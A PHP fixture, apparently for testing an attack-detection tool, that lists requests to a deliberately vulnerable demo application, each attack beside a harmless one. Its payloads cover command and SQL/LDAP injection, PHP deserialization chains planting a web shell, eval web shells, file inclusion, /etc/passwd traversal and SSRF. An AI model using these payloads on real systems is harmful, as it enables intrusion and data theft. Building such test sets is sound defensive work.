<?php
// Every request of the demonstration, attack beside ordinary use. A row:
//
//   about     what it shows, in a few words
//   page      the page of the sample application
//   get, post, cookie
//             values by name; a post makes it a POST. A query that is no list of
//             values stands in `query`, as sent.
//   file      name and text of an uploaded file
//   shown     what the table shows in place of the values, where these are unreadable
//   evidence  pattern that the answer matches when the page did what was asked of
//             it: for an attack, the attack's work. Its first group (or all of the
//             match) is shown. It must not match what was sent.
//   attack    the name of the event that the attack must cause. No `attack`: an
//             ordinary request, whose answer must stay the same to the byte.
//   left out  the reason why the row cannot be sent here; empty if it can
//
// The rows of a heading stand together in the table.

declare(strict_types=1);

$intranet = (string) getenv('TOOLBOX_INTRANET');
$no_directory = (string) getenv('TOOLBOX_NO_DIRECTORY');

return [
    'Commands' => [
        [
            'about' => 'system: appended',
            'page' => 'lookup.php',
            'get' => ['host' => 'localhost;id'],
            'evidence' => '/uid=\d+\S*/',
            'attack' => 'command_execution',
        ],
        [
            'about' => 'plain host name',
            'page' => 'lookup.php',
            'get' => ['host' => 'localhost'],
            'evidence' => '/<pre>(\S+)\s+localhost/',
        ],
        [
            'about' => 'exec: substituted',
            'page' => 'weekday.php',
            'get' => ['day' => '"$(id)"'],
            'evidence' => '/uid=\d+\S*/',
            'attack' => 'command_execution',
        ],
        [
            'about' => 'plain date',
            'page' => 'weekday.php',
            'get' => ['day' => '2024-02-29'],
            'evidence' => '/Thursday/',
        ],
        [
            'about' => 'shell_exec: shell word',
            'page' => 'status.php',
            'get' => ['fact' => 'id'],
            'evidence' => '/uid=\d+\S*/',
            'attack' => 'command_execution',
        ],
        [
            'about' => 'plain word',
            'page' => 'status.php',
            'get' => ['fact' => 'arch'],
            'evidence' => '/<pre>(\w+)/',
        ],
        [
            'about' => 'proc_open: appended',
            'page' => 'words.php',
            'post' => ['text' => 'one two', 'unit' => 'w; uname -sr'],
            'shown' => 'unit=w; uname -sr',
            'evidence' => '/Linux \d[\d.]*/',
            'attack' => 'command_execution',
        ],
        [
            'about' => 'shell text as data',
            'page' => 'words.php',
            'post' => ['text' => 'rm -rf / ; cat /etc/passwd | sh', 'unit' => 'w'],
            'shown' => 'text=rm -rf / ; cat /etc/passwd | sh',
            'evidence' => '/<pre>(\d+)/',
        ],
        [
            'about' => 'popen: out of folder',
            'page' => 'disk.php',
            'get' => ['folder' => '..; cat ../private/salaries.csv'],
            'evidence' => '/porter;\d+/',
            'attack' => 'command_execution',
        ],
        [
            'about' => 'plain folder',
            'page' => 'disk.php',
            'get' => ['folder' => 'handbook'],
            'evidence' => '/<pre>(\d+)/',
        ],
        [
            'about' => 'passthru: cut out',
            'page' => 'jobs.php',
            'post' => ['job' => 'now|uname -sr'],
            'evidence' => '/Linux \d[\d.]*/',
            'attack' => 'command_execution',
        ],
        [
            'about' => 'job by its name',
            'page' => 'jobs.php',
            'post' => ['job' => 'backup'],
            'evidence' => '/queued for the night: (backup)/',
        ],
        [
            'about' => 'shell_exec: as it is',
            'page' => 'console.php',
            'post' => ['command' => 'cat ../private/salaries.csv'],
            'evidence' => '/porter;\d+/',
            'attack' => 'command_execution',
        ],
        [
            'about' => 'command of its own',
            'page' => 'console.php',
            'get' => ['show' => 'kernel'],
            'evidence' => '/Linux \w+/',
        ],
        [
            'about' => 'passthru: bare name',
            'page' => 'help.php',
            'query' => 'holidays;id',
            'evidence' => '/uid=\d+\S*/',
            'attack' => 'command_execution',
        ],
        [
            'about' => 'topic by its bare name',
            'page' => 'help.php',
            'query' => 'holidays',
            'evidence' => '/no article yet: (holidays)/',
        ],
        [
            'about' => 'passthru: from cookie',
            'page' => 'greeting.php',
            'cookie' => ['taste' => 'passthru,uname -sr'],
            'evidence' => '/Linux \d[\d.]*/',
            'attack' => 'command_execution',
        ],
        [
            'about' => 'harmless cookie',
            'page' => 'greeting.php',
            'cookie' => ['taste' => 'strtoupper,good evening'],
            'evidence' => '/GOOD EVENING/',
        ],
    ],
    'Objects' => [
        [
            'about' => 'command in destructor',
            'page' => 'view.php',
            'get' => ['state' => base64_encode(
                'a:2:{i:0;O:7:"Preview":1:{s:6:"finish";s:9:"uname -sr";}i:0;i:0;}'
            )],
            'shown' => 'state=a:2:{i:0;O:7:"Preview"...',
            'evidence' => '/Linux \d[\d.]*/',
            'attack' => 'deserialisation_chain',
        ],
        [
            'about' => 'command in wake-up',
            'page' => 'view.php',
            'get' => ['state' => base64_encode(
                'O:9:"Workspace":1:{s:5:"probe";s:9:"uname -sr";}'
            )],
            'shown' => 'state=O:9:"Workspace"...',
            'evidence' => '/Linux \d[\d.]*/',
            'attack' => 'deserialisation_chain',
        ],
        [
            'about' => 'file in wake-up',
            'page' => 'view.php',
            'get' => ['state' => base64_encode(
                'O:5:"Draft":2:{s:4:"name";s:8:"door.php";s:4:"text";s:23:"<?php system($_GET[0]);";}'
            )],
            'shown' => 'state=O:5:"Draft"...',
            'evidence' => '/kept, ([1-9]\d* bytes)/',
            'attack' => 'deserialisation_file_create',
        ],
        [
            'about' => 'destructor afterwards',
            'page' => 'view.php',
            'get' => ['state' => base64_encode(serialize(['sort' => 'size', 'rows' => 50]))],
            'shown' => 'state=a:2:{s:4:"sort"...',
            'evidence' => '/previews are (up to date)/',
        ],
        [
            'about' => 'object in YAML',
            'page' => 'settings.php',
            'post' => ['settings' =>
                '!php/object \'O:9:"Workspace":1:{s:5:"probe";s:9:"uname -sr";}\''],
            'evidence' => '/Linux \d[\d.]*/',
            'attack' => 'yaml_object',
        ],
        [
            'about' => 'plain YAML',
            'page' => 'settings.php',
            'post' => ['settings' => "sort: size\nrows: 50\n"],
            'evidence' => '/2 settings/',
        ],
    ],
    'Code' => [
        [
            'about' => 'command in template',
            'page' => 'report.php',
            'get' => ['name' => 'monthly'],
            'evidence' => '/uid=\d+\S*/',
            'attack' => 'command_execution',
        ],
        [
            'about' => 'same, in a function',
            'page' => 'report.php',
            'get' => ['name' => 'yearly'],
            'evidence' => '/porter;\d+/',
            'attack' => 'command_execution',
        ],
        [
            'about' => 'honest template',
            'page' => 'report.php',
            'get' => ['name' => 'weekly'],
            'evidence' => '/Present \d+/',
        ],
        [
            'about' => 'eval: as it is',
            'page' => 'calculator.php',
            'get' => ['sum' => 'return `id`;'],
            'evidence' => '/uid=\d+\S*/',
            'attack' => 'code_execution',
        ],
        [
            'about' => 'eval: web shell',
            'page' => 'calculator.php',
            'get' => ['sum' => 'return @eval($_GET["z"]);', 'z' => 'return `id`;'],
            'evidence' => '/uid=\d+\S*/',
            'attack' => 'web_shell',
        ],
        [
            'about' => 'plain sum',
            'page' => 'calculator.php',
            'get' => ['sum' => '(19+2)*2'],
            'evidence' => '/<pre>(42)/',
        ],
        [
            'about' => 'phpinfo: in code',
            'page' => 'server.php',
            'get' => ['show' => 'phpinfo()'],
            'evidence' => '/PHP Version\W*([\d.]+)/',
            'attack' => 'command_execution',
        ],
        [
            'about' => 'phpinfo of its own',
            'page' => 'server.php',
            'evidence' => '/PHP Version\W*([\d.]+)/',
        ],
    ],
    'Files' => [
        [
            'about' => 'include: named file',
            'page' => 'board.php',
            'get' => ['file' => 'private/salaries.csv'],
            'evidence' => '/porter;\d+/',
            'attack' => 'file_include',
        ],
        [
            'about' => 'include: traversal',
            'page' => 'board.php',
            'get' => ['file' => str_repeat('../', 30) . 'etc/passwd'],
            'shown' => 'file=../.../etc/passwd',
            'evidence' => '/root:\w*:0:0/',
            'attack' => 'file_include',
        ],
        [
            'about' => 'include: php://filter',
            'page' => 'board.php',
            'get' => ['file' => 'php://filter/convert.base64-encode/resource=lib/objects.php'],
            'evidence' => '/PD9waHA\w{4}/',
            'attack' => 'file_include',
        ],
        [
            'about' => 'include: data:',
            'page' => 'board.php',
            'get' => ['file' => 'data://text/plain;base64,' . base64_encode('<?php passthru("id");')],
            'evidence' => '/uid=\d+\S*/',
            'attack' => 'file_include',
        ],
        [
            'about' => 'template by its name',
            'page' => 'board.php',
            'get' => ['file' => 'templates/weekly.php'],
            'evidence' => '/week \d+/',
        ],
        [
            'about' => 'read: whole path',
            'page' => 'document.php',
            'get' => ['path' => str_repeat('../', 30) . 'etc/passwd'],
            'shown' => 'path=../.../etc/passwd',
            'evidence' => '/root:\w*:0:0/',
            'attack' => 'file_read',
        ],
        [
            'about' => 'document by its name',
            'page' => 'document.php',
            'get' => ['name' => 'welcome'],
            'evidence' => '/second floor/',
        ],
        [
            'about' => 'uploaded file',
            'page' => 'upload.php',
            'file' => ['notes.txt', "Water the plants.\n"],
            'evidence' => '/kept, (\d+ bytes)/',
        ],
        [
            'about' => 'uploaded script',
            'page' => 'upload.php',
            'file' => ['pixel.PHP', "GIF89a<?php echo 'run';\n"],
            'evidence' => '/kept, (\d+ bytes)/',
            'attack' => 'script_upload',
        ],
        [
            'about' => 'uploaded picture',
            'page' => 'upload.php',
            'file' => ['pixel.gif', base64_decode('R0lGODlhAQABAAAAACwAAAAAAQABAAACADs=')],
            'evidence' => '/kept, (\d+ bytes)/',
        ],
    ],
    'Queries' => [
        [
            'about' => 'SQL: another table',
            'page' => 'search.php',
            'get' => ['room' => '0 UNION SELECT login, password FROM account'],
            'evidence' => '/swordfish/',
            'attack' => 'sql_injection',
        ],
        [
            'about' => 'SQL: always true',
            'page' => 'search.php',
            'get' => ['room' => '0 OR 1=1 --'],
            'evidence' => '/night porter/',
            'attack' => 'sql_injection',
        ],
        [
            'about' => 'apostrophe, escaped',
            'page' => 'search.php',
            'get' => ['name' => "O'Brien"],
            'evidence' => '/room \d+/',
        ],
        [
            'about' => 'plain number',
            'page' => 'search.php',
            'get' => ['room' => '12'],
            'evidence' => '/Ada Meyer/',
        ],
        [
            'about' => 'LDAP: filter reshaped',
            'page' => 'directory.php',
            'get' => ['uid' => 'x)(uid=*'],
            'evidence' => '/The chair/',
            'attack' => 'ldap_injection',
            'left out' => $no_directory,
        ],
        [
            'about' => 'plain name',
            'page' => 'directory.php',
            'get' => ['uid' => 'meyer'],
            'evidence' => '/telephone \d+/',
            'left out' => $no_directory,
        ],
    ],
    'Network' => [
        [
            'about' => 'cURL: internal page',
            'page' => 'picture.php',
            'get' => ['picture' => "$intranet/payroll.txt"],
            'evidence' => '/key=([\d-]+)/',
            'attack' => 'request_forgery',
        ],
        [
            'about' => 'cURL: local file',
            'page' => 'picture.php',
            'get' => ['picture' => 'file:///etc/passwd'],
            'evidence' => '/root:\w*:0:0/',
            'attack' => 'request_forgery',
        ],
        [
            'about' => 'picture by its name',
            'page' => 'picture.php',
            'get' => ['picture' => 'logo'],
            'evidence' => '/\d+ bytes/',
        ],
        [
            'about' => 'fsockopen: named host',
            'page' => 'reach.php',
            'get' => ['host' => '127.0.0.1', 'port' => (string) parse_url($intranet, PHP_URL_PORT)],
            'evidence' => '/\d+ OK/',
            'attack' => 'request_named_connection',
        ],
        [
            'about' => 'host of its own',
            'page' => 'reach.php',
            'evidence' => '/\d+ OK/',
        ],
    ],
];
